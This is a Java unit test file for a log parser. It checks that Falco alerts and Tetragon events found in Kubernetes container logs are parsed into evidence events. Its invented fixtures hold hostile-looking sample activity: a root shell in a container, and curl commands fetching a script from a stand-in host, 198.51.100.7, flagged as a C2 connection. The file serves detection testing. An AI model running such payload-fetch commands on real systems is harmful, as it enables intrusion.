package dev.strata.parse.formats;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import dev.strata.parse.ParserRegistry;
import dev.strata.parse.formats.crilog.CriLogParser;
import dev.strata.parse.formats.dockerjsonlog.DockerJsonLogParser;
import dev.strata.parse.testing.Chunks;
import dev.strata.parse.testing.CollectingOutput;
import dev.strata.schema.common.Framing;
import dev.strata.schema.event.EvidenceEvent;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * Sensors that run as containers print their findings on stdout, so a node's container logs carry them: Falco's
 * alerts ({@code json_output: true}, as the falcosecurity Helm chart configures it; Falco's "Outputs" docs: one JSON
 * object per alert with time, rule, priority, output, output_fields, source, tags, hostname) in the Falco pod's CRI
 * log, and Tetragon's events (the export file's {@code GetEventsResponse} JSON, printed by its {@code export-stdout}
 * container). Fixtures written after those docs (values invented).
 */
class CarriedFormatsTest {

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final String FALCO_POD_LOG =
      "var/log/pods/falco_falco-x7k2p_0b7e2a44-1c3d-4e5f-8a9b-0c1d2e3f4a5b/falco/0.log";
  private static final String TETRAGON_POD_LOG =
      "var/log/pods/kube-system_tetragon-9q8wz_7f6e5d4c-3b2a-4190-8f7e-6d5c4b3a2910/export-stdout/0.log";
  private static final String WEB_ID = "3ad5f0ae5f9b";

  static final String FALCO_ALERT = "{\"hostname\":\"ip-10-0-1-23\",\"output\":\"10:20:05.408091526: Notice A shell was"
      + " spawned in a container with an attached terminal (user=root process=sh command=sh container_id=" + WEB_ID
      + " k8s_ns=prod k8s_pod_name=web-7d4b9c)\",\"output_fields\":{\"container.id\":\"" + WEB_ID + "\","
      + "\"container.image.repository\":\"docker.io/library/nginx\",\"container.image.tag\":\"1.25\","
      + "\"container.name\":\"web\",\"evt.time\":1714558805408091526,\"k8s.ns.name\":\"prod\","
      + "\"k8s.pod.name\":\"web-7d4b9c\",\"proc.cmdline\":\"sh\",\"proc.name\":\"sh\",\"user.name\":\"root\"},"
      + "\"priority\":\"Notice\",\"rule\":\"Terminal shell in container\",\"source\":\"syscall\","
      + "\"tags\":[\"T1059\",\"container\",\"mitre_execution\",\"shell\"],\"time\":\"2024-05-01T10:20:05.408091526Z\"}";

  static final String TETRAGON_EXEC = "{\"process_exec\":{\"process\":{\"exec_id\":\"aXAtMTAtMC0xLTIzOjQyNDI=\","
      + "\"pid\":4242,\"uid\":0,\"cwd\":\"/\",\"binary\":\"/usr/bin/curl\",\"arguments\":\"-s http://198.51.100.7/x.sh\","
      + "\"flags\":\"execve clone\",\"start_time\":\"2024-05-01T10:21:00.123456789Z\",\"auid\":4294967295,"
      + "\"pod\":{\"namespace\":\"prod\",\"name\":\"web-7d4b9c\",\"container\":{\"id\":\"containerd://" + WEB_ID
      + "\",\"name\":\"web\"}},\"docker\":\"" + WEB_ID + "\"}},\"node_name\":\"ip-10-0-1-23\","
      + "\"time\":\"2024-05-01T10:21:00.123456789Z\"}";

  private static String cri(String ts, String tag, String content) {
    return ts + " stdout " + tag + " " + content + "\n";
  }

  private static CollectingOutput parse(String content, String format, String origin) throws Exception {
    CollectingOutput out = new CollectingOutput();
    ParserRegistry.defaults().forSourceType(format).orElseThrow()
        .parse(Chunks.single(content, format, Framing.LINES, origin), out);
    return out;
  }

  @Test
  void aFalcoAlertInTheFalcoPodsCriLogIsAnAlertOfTheWatchedPodNotOfFalco() throws Exception {
    String startup = cri("2024-05-01T10:00:00.000000001Z", "F",
        "Wed May  1 10:00:00 2024: Falco version: 0.37.1 (x86_64)");
    String alert = cri("2024-05-01T10:20:05.409812345Z", "F", FALCO_ALERT);
    String appJson = cri("2024-05-01T10:20:06Z", "F", "{\"level\":\"info\",\"msg\":\"rule loaded\",\"output\":\"x\"}");
    String cut = cri("2024-05-01T10:20:07Z", "F", "{\"rule\":\"x\",\"priority\":\"Notice\",\"output\":");
    CollectingOutput out = parse(startup + alert + appJson + cut, CriLogParser.FORMAT, FALCO_POD_LOG);

    assertThat(out.rejections).isEmpty();
    assertThat(out.events).extracting(EvidenceEvent::getSourceFormat)
        .containsExactly("cri_log", "falco_alert", "cri_log", "cri_log");
    EvidenceEvent a = out.events.get(1);
    assertThat(a.getClassUid()).isEqualTo(2004);
    assertThat(a.getFinding().getRule()).isEqualTo("Terminal shell in container");
    assertThat(a.getTime().toString()).isEqualTo("2024-05-01T10:20:05.408091Z");
    assertThat(a.getContainer().getUid()).isEqualTo(WEB_ID);
    assertThat(a.getContainer().getName()).isEqualTo("web");
    assertThat(a.getKubernetes().getPodName()).isEqualTo("web-7d4b9c");
    assertThat(a.getKubernetes().getNamespace()).isEqualTo("prod");
    assertThat(a.getProcess().getCmdLine()).isEqualTo("sh");
    // the record is the log line: lineage and raw_data point at it, the carrier is named but not the alert's subject
    int offset = startup.length();
    assertThat(a.getLineage().getSourceType()).isEqualTo("cri_log");
    assertThat(a.getLineage().getByteOffset()).isEqualTo(offset);
    assertThat(a.getLineage().getByteLength()).isEqualTo(alert.length() - 1);
    assertThat(a.getLineage().getLineNumber()).isEqualTo(2);
    assertThat(a.getRawData()).isEqualTo(alert.substring(0, alert.length() - 1));
    assertThat(a.getUnmapped()).containsEntry("strata.carrier.format", "cri_log")
        .containsEntry("strata.carrier.pod_name", "falco-x7k2p")
        .containsEntry("strata.carrier.namespace", "falco")
        .containsEntry("strata.carrier.container_name", "falco");
    // the plain lines keep the Falco pod's identity
    assertThat(out.events.get(0).getKubernetes().getPodName()).isEqualTo("falco-x7k2p");
    assertThat(out.events.get(3).getMessage()).endsWith("\"output\":");
    // ids: distinct, and the same on a re-run
    assertThat(out.events).extracting(EvidenceEvent::getEventId).doesNotHaveDuplicates();
    CollectingOutput again = parse(startup + alert + appJson + cut, CriLogParser.FORMAT, FALCO_POD_LOG);
    assertThat(again.events).extracting(EvidenceEvent::getEventId)
        .containsExactlyElementsOf(out.events.stream().map(EvidenceEvent::getEventId).toList());
  }

  @Test
  void anAlertTheRuntimeSplitIntoPartialLinesIsJoinedFirst() throws Exception {
    int half = FALCO_ALERT.length() / 2;
    String p = cri("2024-05-01T10:20:05.409812345Z", "P", FALCO_ALERT.substring(0, half));
    String f = cri("2024-05-01T10:20:05.409812345Z", "F", FALCO_ALERT.substring(half));
    CollectingOutput out = parse(p + f, CriLogParser.FORMAT, FALCO_POD_LOG);

    assertThat(out.rejections).isEmpty();
    assertThat(out.events).hasSize(1);
    EvidenceEvent a = out.events.get(0);
    assertThat(a.getSourceFormat()).isEqualTo("falco_alert");
    assertThat(a.getLineage().getByteOffset()).isEqualTo(0);
    assertThat(a.getLineage().getByteLength()).isEqualTo(p.length() + f.length() - 1);
  }

  @Test
  void aTetragonEventFromItsExportStdoutContainerIsAProcessEvent() throws Exception {
    CollectingOutput out =
        parse(cri("2024-05-01T10:21:00.200000000Z", "F", TETRAGON_EXEC), CriLogParser.FORMAT, TETRAGON_POD_LOG);

    assertThat(out.rejections).isEmpty();
    EvidenceEvent e = out.events.get(0);
    assertThat(e.getSourceFormat()).isEqualTo("tetragon_event");
    assertThat(e.getProcess().getExecutable()).isEqualTo("/usr/bin/curl");
    assertThat(e.getProcess().getPid()).isEqualTo(4242L);
    assertThat(e.getContainer().getUid()).isEqualTo(WEB_ID);
    assertThat(e.getKubernetes().getPodName()).isEqualTo("web-7d4b9c");
    assertThat(e.getUnmapped()).containsEntry("strata.carrier.container_name", "export-stdout");
  }

  @Test
  void aFalcoAlertInTheFalcoContainersDockerJsonFileLogIsAnAlert() throws Exception {
    String falcoId = "f".repeat(64);
    Map<String, String> line = new LinkedHashMap<>();
    line.put("log", FALCO_ALERT + "\n");
    line.put("stream", "stdout");
    line.put("time", "2024-05-01T10:20:05.409812345Z");
    Map<String, String> plain = new LinkedHashMap<>(line);
    plain.put("log", "{\"msg\":\"Loading rules from file /etc/falco/falco_rules.yaml\"}\n");
    String content = JSON.writeValueAsString(plain) + "\n" + JSON.writeValueAsString(line) + "\n";
    CollectingOutput out = parse(content, DockerJsonLogParser.FORMAT,
        "var/lib/docker/containers/" + falcoId + "/" + falcoId + "-json.log");

    assertThat(out.rejections).isEmpty();
    assertThat(out.events).extracting(EvidenceEvent::getSourceFormat)
        .containsExactly("docker_json_log", "falco_alert");
    EvidenceEvent a = out.events.get(1);
    assertThat(a.getContainer().getUid()).isEqualTo(WEB_ID);
    assertThat(a.getFinding().getRule()).isEqualTo("Terminal shell in container");
    assertThat(a.getLineage().getSourceType()).isEqualTo("docker_json_log");
    assertThat(a.getRawData()).isEqualTo(JSON.writeValueAsString(line));
    assertThat(a.getUnmapped()).containsEntry("strata.carrier.container_id", falcoId);
    assertThat(out.events.get(0).getContainer().getUid()).isEqualTo(falcoId);
  }

  @Test
  void aFalcoTextAlertInTheFalcoPodsLogTakesItsDateFromTheLogLine() throws Exception {
    // Falco's default text output (json_output: false); the chart's image prints ISO 8601, a host install the local
    // time of day: the CRI line's timestamp gives that one its date, also across midnight
    String iso = cri("2024-05-01T10:20:05.409812345Z", "F", "2024-05-01T10:20:05.408091526+0000: Notice A shell was"
        + " spawned in a container with an attached terminal | evt_type=execve user=root user_uid=0"
        + " user_loginuid=-1 process=sh proc_exepath=/bin/busybox parent=runc command=sh -i terminal=34816"
        + " exe_flags=EXE_WRITABLE container_id=" + WEB_ID + " container_image=docker.io/library/nginx"
        + " container_image_tag=1.25 container_name=web k8s_ns=prod k8s_pod_name=web-7d4b9c");
    String timeOfDay = cri("2024-05-02T00:00:00.100000000Z", "F", "23:59:59.900000001: Warning Outbound connection"
        + " to C2 server (connection=10.0.3.17:43122->198.51.100.7:4444 user=www-data command=curl -s"
        + " http://198.51.100.7/x container_id=" + WEB_ID + ")");
    String banner = cri("2024-05-01T10:00:00Z", "F", "2024-05-01T10:00:00+0000: Falco version: 0.37.1 (x86_64)");
    CollectingOutput out = parse(banner + iso + timeOfDay, CriLogParser.FORMAT, FALCO_POD_LOG);

    assertThat(out.rejections).isEmpty();
    assertThat(out.events).extracting(EvidenceEvent::getSourceFormat)
        .containsExactly("cri_log", "falco_alert", "falco_alert");
    EvidenceEvent shell = out.events.get(1);
    assertThat(shell.getTime().toString()).isEqualTo("2024-05-01T10:20:05.408091Z");
    assertThat(shell.getSeverityId()).isEqualTo(2);
    assertThat(shell.getFinding().getTitle()).isEqualTo("A shell was spawned in a container with an attached terminal");
    assertThat(shell.getProcess().getCmdLine()).isEqualTo("sh -i");
    assertThat(shell.getProcess().getExecutable()).isEqualTo("/bin/busybox");
    assertThat(shell.getProcess().getParentName()).isEqualTo("runc");
    assertThat(shell.getContainer().getUid()).isEqualTo(WEB_ID);
    assertThat(shell.getContainer().getImageName()).isEqualTo("docker.io/library/nginx:1.25");
    assertThat(shell.getKubernetes().getPodName()).isEqualTo("web-7d4b9c");
    assertThat(shell.getUnmapped()).containsEntry("output_fields.evt.type", "execve")
        .containsEntry("strata.carrier.pod_name", "falco-x7k2p");
    EvidenceEvent c2 = out.events.get(2);
    assertThat(c2.getTime().toString()).isEqualTo("2024-05-01T23:59:59.900Z");
    assertThat(c2.getTimeOriginal()).isEqualTo("23:59:59.900000001");
    assertThat(c2.getSeverityId()).isEqualTo(3);
    assertThat(c2.getSrcEndpoint().getIp()).isEqualTo("10.0.3.17");
    assertThat(c2.getDstEndpoint().getIp()).isEqualTo("198.51.100.7");
    assertThat(c2.getDstEndpoint().getPort()).isEqualTo(4444);
    assertThat(c2.getProcess().getCmdLine()).isEqualTo("curl -s http://198.51.100.7/x");
    assertThat(c2.getContainer().getUid()).isEqualTo(WEB_ID);
  }

  @Test
  void theListNamesEachCarriedFormatOnce() {
    List<String> formats = CarriedFormats.JSON.stream().map(f -> f.format()).toList();
    assertThat(formats).containsExactly("falco_alert", "tetragon_event").doesNotHaveDuplicates();
    assertThat(CarriedFormats.TEXT.stream().map(f -> f.format()).toList()).containsExactly("falco_alert");
    for (String f : formats) assertThat(ParserRegistry.defaults().forSourceType(f)).isPresent();
    assertThat(FALCO_ALERT.getBytes(StandardCharsets.UTF_8)).hasSizeGreaterThan(100);
  }
}
